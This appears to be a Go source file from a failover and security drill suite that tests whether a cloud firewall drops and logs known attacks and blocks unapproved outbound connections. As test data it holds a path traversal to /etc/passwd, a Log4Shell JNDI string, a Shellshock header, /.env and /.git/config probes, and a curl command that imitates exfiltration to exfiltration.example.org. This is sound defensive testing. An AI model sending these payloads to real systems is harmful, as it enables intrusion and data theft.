package scenario

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"time"

	"haven/drill/budget"
	"haven/drill/check"
	"haven/drill/fault"
	"haven/drill/history"
	"haven/drill/target"
)

const firewallHold = 15 * time.Second

func firewall() []Scenario {
	return []Scenario{
		{
			Name: "failover/firewall/endpoint-lost", Does: "a zone's firewall endpoint is lost: nothing gets in or out there, and the other zones go on",
			Promises: []string{"HA-01", "HA-03"}, LabOnly: onlyLab, Hold: firewallHold, Budget: budget.FirewallLost,
			// A client that knows no better sends a third of its requests to the zone that nothing gets into.
			Errors: 0.4, Whole: zoneWhole,
			Fault: breaks("firewall-endpoint", nil, firewallHold, func(_ context.Context, s Stage) (string, error) { return s.zone() }),
		},
		{
			Name: "failover/firewall/known-bad", Does: "requests that carry marks of well-known attacks come from outside: each is dropped, and logged",
			Promises: []string{"SEC-07"}, Times: 5, Errors: 0, Whole: time.Minute,
			Needs: []string{"logs:FilterLogEvents"}, Fault: knownBad, Judge: noOtherVictims,
		},
		{
			Name: "failover/firewall/forbidden-egress", Does: "a web server calls a name on the internet that no rule allows: it is dropped, and logged",
			Promises: []string{"SEC-07"}, Times: 2, Errors: 0, Whole: time.Minute,
			Needs: append([]string{"elasticloadbalancing:DescribeTargetHealth", "logs:FilterLogEvents"}, target.CommandNeeds...),
			Fault: forbiddenEgress, Judge: noOtherVictims,
		},
	}
}

// noOtherVictims says that while the firewall dropped what is bad it dropped nothing else: no request of the load failed.
func noOtherVictims(_ context.Context, _ Stage, h history.History) ([]check.Finding, error) {
	return check.ErrorShare(h, 0, 1<<62, 0), nil
}

// attack is a request that no firewall should let pass. Paths are marked, so that each is found in the log by itself.
type attack struct{ name, path, agent string }

// attacks are some of those that the firewall's rules of components/firewall name.
var attacks = []attack{
	{"path traversal", "/../../etc/passwd", "drill"}, {"Log4Shell", "/", "${jndi:ldap://192.0.2.1/a}"}, {"Shellshock", "/", "() { :; }; echo"},
	{"environment file probe", "/.env", "drill"}, {"version control probe", "/.git/config", "drill"},
}

// knownBad sends an attack by plain HTTP through one balancer node: what is inside of TLS the web filter looks at.
func knownBad(s Stage) fault.Fault {
	chosen := attacks[s.Random.IntN(len(attacks))]
	var address string
	return &forbidden{
		stage: s,
		choose: func(ctx context.Context) (string, error) {
			node := s.Nodes[s.Random.IntN(len(s.Nodes))]
			host, _, err := net.SplitHostPort(node.Address)
			if err != nil {
				return "", fmt.Errorf("the way in through zone %s: %w", node.Zone, err)
			}
			address = net.JoinHostPort(host, "80")
			// The same request without the mark has to be answered, or its absence would prove nothing.
			if answered, err := plainRequest(ctx, address, attack{path: "/", agent: "drill"}); !answered {
				return "", fmt.Errorf("a harmless request to %s was not answered: %w", address, err)
			}
			return chosen.name + " through zone " + node.Zone, nil
		},
		attempt: func(ctx context.Context) (passed bool, err error) {
			passed, _ = plainRequest(ctx, address, chosen) // no answer, whatever the error, is what is hoped for
			return passed, nil
		},
		logged: func(e alert) bool { return e.Event.DestinationPort == 80 },
	}
}

// requestLimit is how long an answer may take before there is none: a dropped packet is answered by nothing.
const requestLimit = 5 * time.Second

// plainRequest tells whether a request got an answer of HTTP, of any status.
func plainRequest(ctx context.Context, address string, a attack) (answered bool, err error) {
	ctx, cancel := context.WithTimeout(ctx, requestLimit)
	defer cancel()
	request, err := http.NewRequestWithContext(ctx, http.MethodGet, "http://"+address, nil)
	if err != nil {
		return false, err
	}
	request.URL.Opaque = "//" + address + a.path // as it is: not cleaned of ..
	request.Header.Set("User-Agent", a.agent)
	transport := &http.Transport{DisableKeepAlives: true}
	defer transport.CloseIdleConnections()
	response, err := transport.RoundTrip(request)
	if err != nil {
		return false, err
	}
	return true, response.Body.Close()
}

// exfiltrate has a server begin TLS with a name that is not on the allow-list, and prints where to and which status it got: 000 without an
// answer. The site's own public address is one that answers on AWS, so that the connection is made and only the name can be what is dropped.
// https://docs.aws.amazon.com/network-firewall/latest/developerguide/stateful-rule-groups-domain-names.html
const exfiltrate = `address=$(getent ahostsv4 %s | awk 'NR == 1 { print $1 }')
echo "$address $(curl -sk -m 5 -o /dev/null -w '%%{http_code}' --resolve "exfiltration.example.org:443:$address" https://exfiltration.example.org/)"`

const unanswered = "000"

// forbiddenEgress has a server call a name on the internet that no rule allows: whoever takes data out would begin so.
func forbiddenEgress(s Stage) fault.Fault {
	var server, address string
	return &forbidden{
		stage: s,
		choose: func(ctx context.Context) (string, error) {
			var err error
			server, err = s.server(ctx)
			return server, err
		},
		attempt: func(ctx context.Context) (passed bool, err error) {
			// curl's own failure is what is hoped for: the last word of the script's echo is the verdict.
			said, err := s.Command(ctx, server, fmt.Sprintf(exfiltrate, s.Outputs.LoadBalancer.DNSName))
			if err != nil {
				return false, err
			}
			var status string
			if _, err := fmt.Sscan(said, &address, &status); err != nil {
				return false, fmt.Errorf("%s said %q instead of an address and a status: %w", server, said, err)
			}
			return status != unanswered, nil
		},
		logged: func(e alert) bool { return e.Event.Destination == address && e.Event.DestinationPort == 443 },
	}
}
